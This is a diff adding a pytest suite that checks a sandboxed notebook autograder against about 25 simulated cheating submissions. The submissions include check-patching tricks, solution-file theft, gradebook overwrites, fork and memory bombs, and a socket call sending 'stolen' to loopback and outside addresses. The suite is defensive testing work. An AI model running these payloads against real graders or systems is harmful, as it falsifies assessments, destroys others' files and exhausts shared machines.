@@ -1,0 +1,368 @@
+"""Attacks on trusted grading, as a dishonest student would try them (``course.trusted``).
+
+Every attack is a notebook graded with the whole class in one parallel call, beside an honest
+classmate (the reference). Each must earn nothing beyond its honest baseline (the code it
+really holds), leave the classmate's grade and every file outside its sandbox untouched, and
+finish within the time limit. The honest baseline is 0 for an attack on the blank release, and
+for an attack added to the reference it is what the reference's code earns before the attack
+stops it.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import socket
+import threading
+from pathlib import Path
+from typing import Any
+
+import nbformat
+import pytest
+from submissions import from_training_source, write
+
+from course import grade, paths, sandbox
+
+pytestmark = pytest.mark.slow
+
+LIMIT = 20.0  # seconds a submission may run in this suite
+SLACK = 10.0  # process start, judging and a busy CI machine
+RELEASE = None  # the blank release notebook, loaded by the fixture
+
+
+def _blank() -> nbformat.NotebookNode:
+    """The untouched release: every answer still raises NotImplementedError."""
+    return nbformat.reads(RELEASE, as_version=4)
+
+
+def _with_cell(notebook: nbformat.NotebookNode, code: str, *, at: int = 2
+               ) -> nbformat.NotebookNode:
+    code_cells = [i for i, c in enumerate(notebook.cells) if c.cell_type == "code"]
+    notebook.cells.insert(code_cells[min(at, len(code_cells) - 1)],
+                          nbformat.v4.new_code_cell(code))
+    return notebook
+
+
+def _answer(notebook: nbformat.NotebookNode, grade_id: str, code: str) -> nbformat.NotebookNode:
+    for cell in notebook.cells:
+        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
+            cell.source = code
+            return notebook
+    raise AssertionError(f"no cell {grade_id}")
+
+
+def _reference() -> nbformat.NotebookNode:
+    return from_training_source(paths.REFERENCE.read_text())
+
+
+# Each attack: name -> (a function of the marker folder giving the notebook, honest baseline,
+# or None for the file-size attack written separately).
+HOST = "HOST_MARKERS"  # replaced by a folder on the host that must stay empty
+
+
+def _attacks() -> dict[str, tuple[Any, float]]:
+    a: dict[str, tuple[Any, float]] = {}
+
+    def blank(code: str) -> Any:
+        return lambda: _with_cell(_blank(), code)
+
+    # --- rebinding or patching the checks
+    a["rebind-run_check"] = (blank(
+        "run_check = lambda *a, **k: None\n"
+        "class CosineSchedule:\n    def __init__(self, *a, **k): pass\n"
+        "    def get_lr(self, e): pass\n"
+        "def clip_grad_norm(*a, **k): pass\n"), 0)
+    a["patch-CHECKS-in-sys.modules"] = (blank(
+        "import sys\nimport checks\n"
+        "for k in list(checks.CHECKS): checks.CHECKS[k] = lambda *a, **kw: None\n"
+        "sys.modules['checks'].observe = lambda *a, **k: []\n"), 0)
+    a["blank-check-code-via-gc"] = (blank(
+        "import gc, checks\n"
+        "noop = (lambda *a, **k: None).__code__\n"
+        "for f in [o for o in gc.get_objects() if callable(o) and "
+        "getattr(o, '__module__', '').startswith('checks')]:\n"
+        "    try: f.__code__ = noop\n    except Exception: pass\n"), 0)
+    a["settrace-swaps-the-check"] = (blank(
+        "import sys\n"
+        "def tracer(frame, event, arg):\n"
+        "    if event == 'call' and frame.f_code.co_name.startswith('check_'):\n"
+        "        frame.f_globals['fail'] = lambda *a, **k: None\n"
+        "    return None\n"
+        "sys.settrace(tracer)\n"), 0)
+    a["frames-rewrite-recorder"] = (blank(
+        "import sys, checks.replay as r\n"
+        "r.Recorder.call = lambda self, proxy, args, kwargs: 0.1\n"
+        "r.Recorder.get = lambda self, proxy, attr: (lambda *a, **k: 0.1)\n"), 0)
+    # --- lying objects and forged replies
+    a["lying-float-from-get_lr"] = (lambda: _answer(_blank(), "answer_CosineSchedule",
+        "class Liar(float):\n    def __eq__(self, o): return True\n"
+        "    def __sub__(self, o): return 0.0\n    __rsub__ = __sub__\n"
+        "    def __abs__(self): return 0.0\n"
+        "class CosineSchedule:\n"
+        "    def __init__(self, max_lr=0.1, min_lr=0.01, total_epochs=100):\n"
+        "        self.max_lr = max_lr\n    def get_lr(self, epoch):\n"
+        "        return Liar(self.max_lr)\n"), 0)
+    a["forged-protocol-lines"] = (blank(
+        "import os, json\n"
+        "for fd in range(3, 30):\n"
+        "    for k in range(60):\n"
+        "        try: os.write(fd, (json.dumps({'run': k, 'events': []}) + '\\n').encode())\n"
+        "        except OSError: break\n"
+        "    try: os.write(fd, b'{\"done\": true}\\n')\n    except OSError: pass\n"), 0)
+    a["fake-kernel-reply"] = (blank(
+        "try:\n    ip = get_ipython()\n"
+        "    ip.kernel.do_execute = lambda *a, **k: {'status': 'ok'}\n"
+        "except Exception: pass\n"
+        "print('✓ passed (trusted grading)')\n"), 0)
+    # --- reading solutions or seeds
+    a["read-solutions-from-disk"] = (blank(
+        "import os, glob\n"
+        "found = []\n"
+        "for root in ('/work', '/root', '/home', '/tmp', '/', '..', '../..', '../../..'):\n"
+        "    found += glob.glob(root + '/**/training.py', recursive=True)[:50]\n"
+        "    found += glob.glob(root + '/**/07_training.ipynb', recursive=True)[:50]\n"
+        "for path in found:\n"
+        "    text = open(path).read()\n"
+        "    if 'BEGIN SOLUTION' in text or 'total_norm = math.sqrt' in text:\n"
+        "        exec(compile(text.replace('### BEGIN SOLUTION', '').replace("
+        "'### END SOLUTION', ''), path, 'exec'))\n"), 0)
+    a["import-the-installed-reference"] = (blank(
+        "import sys, importlib\n"
+        "sys.path[:0] = ['/work/main', '/work', '..', '../..']\n"
+        "for name in list(sys.modules):\n"
+        "    if name.startswith('tinytorch'): del sys.modules[name]\n"
+        "try:\n    import __editable___tinytorch_training_0_7_0_finder as f\n    f.install()\n"
+        "except Exception: pass\n"
+        "from tinytorch.core.training import CosineSchedule, clip_grad_norm, Trainer\n"), 0)
+    a["read-seeds-from-the-observer"] = (blank(
+        "import sys, gc\n"
+        "seeds = [o for o in gc.get_objects() if isinstance(o, dict) and 'runs' in o]\n"
+        "def clip_grad_norm(parameters, max_norm=1.0):\n"
+        "    return float(len(seeds))\n"), 0)
+    # --- writing what others are graded with
+    a["write-gradebook-and-classmates"] = (blank(
+        "import glob\n"
+        "for pattern in ('/**/gradebook.db', '/**/*.ipynb', '/**/checks/__init__.py', "
+        f"'{HOST}/*'):\n"
+        "    for path in glob.glob(pattern, recursive=True)[:200]:\n"
+        "        try: open(path, 'w').write('pwned')\n        except Exception: pass\n"
+        f"try: open('{HOST}/written-by-a-sandbox', 'w').write('x')\n"
+        "except Exception: pass\n"), 0)
+    a["detached-process-outlives"] = (blank(
+        "import subprocess, sys\n"
+        "code = ('import time\\ntime.sleep(3)\\n'\n"
+        f"        'open(\"{HOST}/late-writer\", \"w\").write(\"x\")')\n"
+        "subprocess.Popen([sys.executable, '-c', code], start_new_session=True)\n"), 0)
+    # --- stopping the run
+    a["exit-in-a-cell"] = (blank("exit()\n"), 0)
+    a["os-exit-at-import"] = (blank("import os\nos._exit(0)\n"), 0)
+    a["os-exit-in-save"] = (lambda: _answer(_reference(), "answer_Trainer_save_checkpoint",
+        "@add_to_class(Trainer)\n"
+        "def save_checkpoint(self, path):\n    import os\n    os._exit(3)\n"), 85)
+    a["kill-own-interpreter"] = (blank(
+        "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"), 0)
+    a["endless-get_lr"] = (lambda: _answer(_blank(), "answer_CosineSchedule",
+        "class CosineSchedule:\n"
+        "    def __init__(self, max_lr=0.1, min_lr=0.01, total_epochs=100): pass\n"
+        "    def get_lr(self, epoch):\n        while True: pass\n"), 0)
+    a["sleep-before-every-cell"] = (lambda: _sleepy(), 0)
+    a["memory-bomb"] = (blank("blocks = [bytearray(2**30) for _ in range(8)]\n"), 0)
+    a["fork-bomb"] = (blank(
+        "import os\n"
+        "for _ in range(200):\n"
+        "    try:\n        if os.fork() == 0:\n            import time; time.sleep(30)\n"
+        "    except OSError: break\n"), 0)
+    a["output-flood"] = (blank(
+        "import os, sys\nchunk = 'x' * 2**20\n"
+        "for _ in range(400): print(chunk)\n"
+        "for fd in (3, 4, 5):\n"
+        "    for _ in range(400):\n"
+        "        try: os.write(fd, b'y' * 2**20)\n        except OSError: break\n"), 0)
+    a["network-to-host-loopback"] = (blank(
+        "import socket\n"
+        "for host in ('127.0.0.1', '10.0.2.2', '8.8.8.8'):\n"
+        "    try:\n        s = socket.create_connection((host, PORT), timeout=2)\n"
+        "        s.sendall(b'stolen')\n    except OSError: pass\n"), 0)
+    # --- edited metadata and schema
+    a["points-edited-to-1000"] = (lambda: _edited_points(), 0)
+    a["graded-cells-renamed-and-deleted"] = (lambda: _renamed(), 100)
+    a["schema-version-99"] = (lambda: _schema(), 100)
+    a["not-a-notebook"] = ("not json at all", 0)
+    return a
+
+
+def _sleepy() -> nbformat.NotebookNode:
+    notebook = _blank()
+    for cell in notebook.cells:
+        if cell.cell_type == "code":
+            cell.source = "import time; time.sleep(115)\n" + cell.source
+    return notebook
+
+
+def _edited_points() -> nbformat.NotebookNode:
+    notebook = _blank()
+    for cell in notebook.cells:
+        meta = cell.metadata.get("nbgrader", {})
+        if meta.get("grade"):
+            meta["points"] = 1000
+    return notebook
+
+
+def _renamed() -> nbformat.NotebookNode:
+    """The reference with every graded cell's grade_id renamed and half of them deleted."""
+    notebook = _reference()
+    kept = []
+    for i, cell in enumerate(notebook.cells):
+        meta = cell.metadata.get("nbgrader", {})
+        if meta.get("grade"):
+            meta["grade_id"] = f"renamed-{i}"
+            if i % 2:
+                continue
+        kept.append(cell)
+    notebook.cells = kept
+    return notebook
+
+
+def _schema() -> dict[str, Any]:
+    data = json.loads(nbformat.writes(_reference()))
+    data["nbformat"] = 99
+    for cell in data["cells"]:
+        cell.setdefault("metadata", {}).setdefault("nbgrader", {})["schema_version"] = 99
+    return data
+
+
+def _digest(folder: Path) -> dict[str, str]:
+    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
+    global RELEASE
+    course = tmp_path_factory.mktemp("course")
+    grade.make_course(course)
+    RELEASE = (course / "release" / paths.ASSIGNMENT / paths.NOTEBOOK).read_text()
+    host = tmp_path_factory.mktemp("host-markers")
+    host.chmod(0o777)  # writable by anyone: only the sandbox can keep a sandbox out
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen()
+    listener.settimeout(0.2)
+    port = listener.getsockname()[1]
+    accepted: list[bytes] = []
+    stop = threading.Event()
+
+    def serve() -> None:
+        while not stop.is_set():
+            try:
+                conn, _ = listener.accept()
+            except OSError:
+                continue
+            accepted.append(conn.recv(100))
+            conn.close()
+
+    server = threading.Thread(target=serve, daemon=True)
+    server.start()
+
+    folder = tmp_path_factory.mktemp("class")
+    files: dict[str, Path] = {"honest-classmate": write(_reference(), folder / "honest.ipynb")}
+    baselines: dict[str, float] = {}
+    for name, (make, baseline) in _attacks().items():
+        path = folder / f"{name}.ipynb"
+        built = make() if callable(make) else make
+        if isinstance(built, str):
+            path.write_text(built)
+        elif isinstance(built, dict):
+            path.write_text(json.dumps(built))
+        else:
+            text = nbformat.writes(built).replace(HOST, str(host)).replace("PORT", str(port))
+            path.write_text(text)
+        files[name] = path
+        baselines[name] = baseline
+    huge = folder / "hundred-megabytes.ipynb"
+    with open(huge, "w") as handle:  # a valid notebook of 100 MB
+        handle.write('{"cells": [{"cell_type": "code", "metadata": {}, "outputs": [], '
+                     '"source": "' + "x" * (100 * 2**20) + '"}], "metadata": {}, '
+                     '"nbformat": 4, "nbformat_minor": 5}')
+    files["hundred-megabytes"] = huge
+    baselines["hundred-megabytes"] = 0
+    before = {name: hashlib.sha256(path.read_bytes()).hexdigest()
+              for name, path in files.items()}
+    repo_before = _digest(paths.REPO / "checks")
+    reports = grade.grade(list(files.values()), jobs=2, limits=sandbox.Limits(wall=LIMIT))
+    stop.set()
+    server.join(timeout=5)
+    listener.close()
+    import time
+
+    time.sleep(4)  # longer than the detached writer waits
+    table = [{"attack": name, "points": r["total"], "baseline": baselines.get(name, 100.0),
+              "seconds": r["seconds"], "ended": r["ended"]}
+             for name, r in zip(files, reports, strict=True)]
+    out = paths.REPO / "build" / "grading"
+    out.mkdir(parents=True, exist_ok=True)
+    (out / "cheats.json").write_text(json.dumps(table, indent=1))
+    return {"reports": dict(zip(files, reports, strict=True)), "baselines": baselines,
+            "files": files, "before": before, "host": host, "accepted": accepted,
+            "repo_before": repo_before}
+
+
+def test_the_suite_has_at_least_25_attacks() -> None:
+    assert len(_attacks()) + 1 >= 25
+
+
+@pytest.mark.parametrize("name", [*_attacks(), "hundred-megabytes"])
+def test_an_attack_earns_nothing_beyond_its_honest_baseline(graded: dict[str, Any],
+                                                            name: str) -> None:
+    report = graded["reports"][name]
+    assert report["max_total"] == 100
+    assert report["total"] <= graded["baselines"][name], json.dumps(report, indent=1)[:3000]
+    assert report["seconds"] <= LIMIT + SLACK, report["seconds"]
+
+
+def test_the_attacks_that_keep_honest_code_keep_its_points(graded: dict[str, Any]) -> None:
+    """Renamed or deleted graded cells and an unknown schema change nothing about the code:
+    it earns what it earns; an exit in save_checkpoint keeps the points earned before it."""
+    reports = graded["reports"]
+    assert reports["graded-cells-renamed-and-deleted"]["total"] == 100
+    assert reports["schema-version-99"]["total"] == 100
+    stopped = reports["os-exit-in-save"]
+    assert stopped["total"] == 85 and "ended early" in stopped["ended"]
+    lost = {c["grade_id"] for c in stopped["cells"] if not c["passed"]}
+    assert lost == {"audit_6_1_resume_is_exact", "audit_6_2_checkpoint_is_complete",
+                    "checkpoint_safety"}
+
+
+def test_limits_end_loops_sleeps_and_floods_with_a_reason(graded: dict[str, Any]) -> None:
+    reports = graded["reports"]
+    for name in ("endless-get_lr", "sleep-before-every-cell"):
+        assert "time limit" in (reports[name]["ended"] or ""), reports[name]["ended"]
+    assert reports["hundred-megabytes"]["cells"][0]["message"].startswith("not graded")
+    assert "MiB" in reports["hundred-megabytes"]["ended"]
+    assert reports["not-a-notebook"]["ended"].endswith(
+        "is not a notebook: Expecting value: line 1 column 1 (char 0)")
+
+
+def test_the_honest_classmate_is_untouched(graded: dict[str, Any]) -> None:
+    report = graded["reports"]["honest-classmate"]
+    assert report["total"] == 100, json.dumps(report, indent=1)[:2000]
+    assert report["ended"] is None
+
+
+def test_no_file_outside_the_sandboxes_changed(graded: dict[str, Any]) -> None:
+    for name, path in graded["files"].items():
+        assert hashlib.sha256(path.read_bytes()).hexdigest() == graded["before"][name], name
+    assert list(graded["host"].iterdir()) == []  # no marker, not even from a late daemon
+    assert _digest(paths.REPO / "checks") == graded["repo_before"]
+
+
+def test_no_connection_reached_the_host(graded: dict[str, Any]) -> None:
+    assert graded["accepted"] == []
+
+
+def test_every_report_says_which_isolation_layers_were_active(graded: dict[str, Any]) -> None:
+    layers = graded["reports"]["honest-classmate"]["isolation"]
+    assert layers == sandbox.layers()
+    if sandbox.bubblewrap_works():
+        assert any(layer.startswith("filesystem") for layer in layers)
+        assert any(layer.startswith("pid") for layer in layers)
